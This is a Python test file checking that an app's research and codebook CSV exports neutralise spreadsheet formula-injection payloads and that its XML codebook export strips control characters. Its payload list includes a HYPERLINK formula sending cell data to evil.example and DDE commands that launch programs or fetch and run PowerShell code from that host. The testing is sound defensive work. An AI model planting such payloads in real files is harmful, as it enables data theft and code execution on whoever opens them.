"""Formula payloads in every CSV the app writes come out inert; the .qdc always parses."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from lxml import etree

from storybank.exports.engine import Codebook
from storybank.exports.engine import Excerpt
from storybank.exports.engine import ExportStory
from storybank.exports.engine import Theme
from storybank.exports.engine import excerpts_csv
from storybank.exports.engine import matrix_csv
from storybank.exports.engine import stories_csv
from storybank.tag.export import codebook_csv
from storybank.tag.export import codebook_qdc
from tests.security.csv_cells import assert_no_cell_runs
from tests.security.csv_cells import codebook_with

# In the style of OWASP's CSV injection page: each starts with a character a spreadsheet runs.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
]


def export_story(payload: str) -> ExportStory:
    return ExportStory(
        4,
        text=f"{payload} was scrawled on the bus shelter near the hostel.",
        themes=("k",),
        excerpts=(Excerpt("k", 0, len(payload)),),
        site=payload,
        voice="Person on probation",
        story_type="Personal",
        source="Written",
        approved_on=date(2031, 1, 2),
        word_count=9,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("write", [stories_csv, excerpts_csv, matrix_csv])
def test_research_export_csvs_make_formula_payloads_inert(write, payload):
    codebook = Codebook(2, (Theme("k", payload, payload),))
    data = b"".join(write([export_story(payload)], codebook))
    assert_no_cell_runs(data, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_codebook_csv_makes_formula_payloads_inert(payload):
    assert_no_cell_runs(codebook_csv(codebook_with(payload, version=3)), payload)


def test_codebook_csv_leaves_ordinary_cells_alone():
    rows = list(csv.DictReader(io.StringIO(codebook_csv(codebook_with("Being heard", version=3)))))
    assert rows[0]["name"] == "Being heard" and rows[0]["codebook_version"] == "3"


def test_qdc_with_control_characters_is_valid_xml_without_them():
    text = "Bell\x07 form\x0c feed\x00 nul\x1b esc \ufffe and\ttab\nnewline"
    root = etree.fromstring(codebook_qdc(codebook_with(text, version=3)))
    ns = "{urn:QDA-XML:codebook:1.0}"
    code = root.find(f"{ns}Codes/{ns}Code")
    assert code.get("name") == "Bell form feed nul esc  and\ttab\nnewline"
    assert code.find(f"{ns}Description").text.startswith("Bell form feed nul esc  and\ttab")
